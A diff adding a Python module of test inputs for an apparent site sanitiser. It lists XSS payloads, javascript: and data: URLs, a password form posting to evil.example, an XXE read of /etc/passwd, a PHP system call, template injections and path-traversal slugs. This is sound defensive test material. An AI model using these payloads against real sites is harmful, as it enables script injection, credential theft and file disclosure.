@@ -1,0 +1,220 @@
+"""Attempts to bring something onto a page that acts, asks, hides or leads away, by where they enter.
+
+All lead to hosts under .example; what would run would say so in a dialog.
+"""
+
+from dataclasses import dataclass
+
+EVIL = "https://evil.example"
+
+TEXTS = (
+    "<script>alert(1)</script>",
+    f"<script src={EVIL}/x.js></script>",
+    "<SCRIPT\x0b>alert(1)</SCRIPT>",
+    "</script><script>alert(1)</script>",
+    "<scr<script>ipt>alert(1)</scr</script>ipt>",
+    "<img src=x onerror=alert(1)>",
+    '"><img src=x onerror=alert(1)>',
+    "' onmouseover='alert(1)' x='",
+    '" autofocus onfocus="alert(1)" x="',
+    "<svg onload=alert(1)>",
+    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
+    "<svg><style><img src=x onerror=alert(1)></style></svg>",
+    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
+    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
+    f"<iframe src={EVIL}></iframe>",
+    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
+    f"<object data={EVIL}/x.swf></object>",
+    f"<embed src={EVIL}/x.swf>",
+    f"<link rel=stylesheet href={EVIL}/x.css>",
+    f"<style>@import '{EVIL}/x.css';</style>",
+    "<style>*{display:none}</style>",
+    "<p style='position:fixed;inset:0'>",
+    f"<base href={EVIL}/>",
+    f"<meta http-equiv=refresh content='0;url={EVIL}'>",
+    f"<form action={EVIL}><input name=password></form>",
+    "<button onclick=alert(1)>x</button>",
+    "<details open ontoggle=alert(1)>",
+    "<video><source onerror=alert(1)></video>",
+    "<audio src=x onerror=alert(1)>",
+    "<body onload=alert(1)>",
+    '<a href="javascript:alert(1)">x</a>',
+    '<a href="java\tscript:alert(1)">x</a>',
+    '<a href="&#106;avascript:alert(1)">x</a>',
+    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
+    '<a href="vbscript:msgbox(1)">x</a>',
+    f'<a href="//{EVIL[8:]}/">x</a>',
+    f'<a1 href="{EVIL}">x</a1>',
+    "<strong onclick=alert(1)>x</strong>",
+    "<x-widget onclick=alert(1)>x</x-widget>",
+    "</p></div></main><script>alert(1)</script>",
+    "</title><script>alert(1)</script>",
+    "</style><script>alert(1)</script>",
+    "</textarea><script>alert(1)</script>",
+    "<!--><script>alert(1)</script>-->",
+    "--><script>alert(1)</script><!--",
+    "<![CDATA[<script>alert(1)</script>]]>",
+    "<?xml-stylesheet href='x'?><?php system('id') ?>",
+    "<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>&e;",
+    "&lt;script&gt;alert(1)&lt;/script&gt;",
+    "&#60;script&#62;alert(1)&#60;/script&#62;",
+    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
+    "\\x3cscript\\x3ealert(1)",
+    "{{ 7 * 7 }}{{ config }}",
+    "{% include '/etc/passwd' %}",
+    "${alert(1)} #{alert(1)} <%= 1 %>",
+    "{url} {owner} {0.__class__}",
+    "[caption onclick=alert(1)]x[/caption]",
+    "[embed]https://evil.example/x[/embed] [gallery ids=1]",
+    "<!-- wp:html --><script>alert(1)</script><!-- /wp:html -->",
+    "{loadmodule mod_evil} {source}<script>1</script>{/source}",
+    "[x](javascript:alert(1)) ![x](https://evil.example/x.png)",
+    "<https://evil.example/auto> [x]: https://evil.example",
+    "```\n</code></pre><script>alert(1)</script>\n```",
+    "SLAAP\u202ePEEKS\u202c",
+    "SL\u200bAAP\ufeff",
+    "\u2066SLAAP\u2069",
+    "<\u200bscript>alert(1)</script>",
+    "﹤script﹥alert(1)﹤/script﹥",
+    "\x00<script>alert(1)</script>\x08",
+    "\x1b]8;;https://evil.example\x07x\x1b]8;;\x07",
+    "\u2028alert(1)//\u2029",
+    '=HYPERLINK("https://evil.example")',
+)
+"""What somebody might write where text is expected."""
+
+ADDRESSES = (
+    "javascript:alert(1)",
+    "JaVaScRiPt:alert(1)",
+    " javascript:alert(1)",
+    "java\tscript:alert(1)",
+    "\x01javascript:alert(1)",
+    "javascript://charity.example/%0aalert(1)",
+    "data:text/html,<script>alert(1)</script>",
+    "vbscript:msgbox(1)",
+    "file:///etc/passwd",
+    "blob:https://charity.example/1",
+    "//evil.example/x",
+    "\\\\evil.example\\x",
+    "/\\evil.example",
+    "https:///x",
+    "https://charity.example@evil.example/",
+    "https://charity.example\\@evil.example/",
+    'https://a.example/" onclick="alert(1)',
+    "https://[broken",
+    'x" onerror="alert(1)',
+    "tel:+31000",
+)
+"""What somebody might write where an address is expected."""
+
+PAGES = (
+    "<script>alert(1)</script>",
+    "<p onclick='alert(1)'>Rest before you are tired.</p>",
+    "<p style='position:fixed'>Rest before you are tired.</p>",
+    "<p><a href='javascript:alert(1)'>Rest</a> before you are tired.</p>",
+    "<p><a href='java&#9;script:alert(1)'>Rest</a> before you are tired.</p>",
+    "<p><a href='&#1;javascript:alert(1)'>Rest</a> before you are tired.</p>",
+    "<p><a href='data:text/html,x'>Rest</a> before you are tired.</p>",
+    "<p><a href='https://charity.example/' ping='https://evil.example/'>Rest</a> now.</p>",
+    "<p><a href='https://charity.example/' target=x onclick='alert(1)'>Rest</a> now.</p>",
+    "<p><img src='javascript:alert(1)' alt='a chair'> A chair.</p>",
+    "<p><img src='chair.png' onerror='alert(1)' alt='a chair'> A chair.</p>",
+    "<p><img src='chair.png' srcset='https://evil.example/x.png 2x' alt='a chair'> A chair.</p>",
+    "<p><img src='chair.png' alt='\"><script>alert(1)</script>'> A chair.</p>",
+    "<svg onload='alert(1)'><text>Rest</text></svg>",
+    "<p><svg><a xlink:href='javascript:alert(1)'><text>Rest</text></a></svg> Rest.</p>",
+    "<math><mtext><script>alert(1)</script></mtext></math>",
+    "<iframe src='https://charity.example/'></iframe>",
+    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
+    "<object data='https://charity.example/x.swf'></object>",
+    "<embed src='https://charity.example/x.swf'>",
+    "<form action='https://evil.example/'><input name=password><button>Send</button></form>",
+    "<style>@import 'https://evil.example/x.css'</style>",
+    "<link rel=stylesheet href='https://evil.example/x.css'>",
+    "<base href='https://evil.example/'>",
+    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
+    "<template><script>alert(1)</script></template>",
+    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
+    "<p>Rest &lt;script&gt;alert(1)&lt;/script&gt; now.</p>",
+    "<!--[if IE]><script>alert(1)</script><![endif]-->",
+    "<p lang='nl\" onclick=\"alert(1)'>Rest before you are tired.</p>",
+    "<table><tr><td colspan='2\" onclick=\"alert(1)'>Rest</td><td>x</td></tr></table>",
+    "<ol start='1\" onclick=\"alert(1)'><li>Rest</li></ol>",
+    "<p id='x\" onclick=\"alert(1)'>Rest.</p><p><a href='#x\" onclick=\"alert(1)'>up</a> Rest.</p>",
+    "<custom-element onconnected='alert(1)'>Rest before you are tired.</custom-element>",
+    "<details ontoggle='alert(1)' open><summary>More</summary><p>Rest.</p></details>",
+    "<video src='https://charity.example/x' onerror='alert(1)'></video>",
+    "<p>Rest</p><plaintext><script>alert(1)</script>",
+    "<h2><script>alert(1)</script>Rest</h2><p>Now.</p>",
+)
+"""What a hostile page might hold."""
+
+EDITS = (
+    ("<p>Rest", '<p onclick="alert(1)">Rest', "b005"),
+    ("<p>Rest", '<p style="color:red">Rest', "b005"),
+    ("<p>Rest", '<p class="x">Rest', "b005"),
+    ("<p>Rest", '<p id="tekst" class="text">Rest', "b005"),
+    ("<li>Sleep</li>", "<li><bdo>Sleep</bdo></li>", "b009"),
+    ("<li>Sleep</li>", '<li tabindex="1">Sleep</li>', "b009"),
+    ("<li>Sleep</li>", '<li lang="&quot; onclick=&quot;alert(1)">Sleep</li>', "b009"),
+    ("<strong>", '<strong onmouseover="alert(1)">', "b005"),
+    ("https://charity.example/pacing/", 'https://a.example" ping="https://evil.example/', "b005"),
+    ('https://doi.org/10.5555/jfi.2019.0143"', 'javascript:alert(1)"', "k001"),
+    ('https://doi.org/10.5555/jfi.2019.0143"', 'data:text/html,x"', "k001"),
+    ('https://doi.org/10.5555/jfi.2019.0143"', '//evil.example/"', "k001"),
+    ('https://doi.org/10.5555/jfi.2019.0143"', 'tel:0900" hreflang="x y"', "k001"),
+    (
+        'src="https://charity.example/chart.png"',
+        'src="https://charity.example/chart.png" onerror="alert(1)"',
+        "b010",
+    ),
+    ('src="https://charity.example/tray.jpg"', 'src="javascript:alert(1)"', "b012"),
+    ('<th scope="col">Night', '<th scope="col" onclick="alert(1)">Night', "b015"),
+    ("</article>", '<script src="https://evil.example/x.js"></script></article>', ""),
+    ("</article>", '<iframe src="https://evil.example/"></iframe></article>', ""),
+    ("</article>", "<style></style></article>", ""),
+    ("</article>", '<object data="x"></object></article>', ""),
+    ("<h2>Notes", "<h2><svg></svg>Notes", "b020"),
+)
+"""What somebody might edit into the normal form: old text, new text, and the block it lies in."""
+
+SLUGS = (
+    "../../outside",
+    "..",
+    "/etc/passwd",
+    "a/../../b",
+    "..\\..\\outside",
+    "C:\\outside",
+    "con",
+    "aux.html",
+    "名前",
+    "x\x00y",
+    'x" onclick="alert(1)',
+    "<script>alert(1)</script>",
+    "-rf",
+    "~root",
+    "a" * 300,
+)
+"""What somebody might ask for as an article's short name."""
+
+FILES = (
+    "9c41d2e8a07b.svg",
+    "9c41d2e8a07b.html",
+    "9c41d2e8a07b.png.html",
+    "9c41d2e8a07b.js",
+    '9c41d2e8a07b.png" onerror="alert(1)',
+    "9c41d2e8a07b.<script>",
+    "9c41d2e8a07b.PHP",
+    "9c41d2e8a07b",
+)
+"""What somebody might call a file in `media`."""
+
+
+@dataclass(frozen=True, slots=True)
+class Attempt:
+    """One attempt."""
+
+    place: str
+    """Where it enters."""
+    text: str
+    """What is written there."""
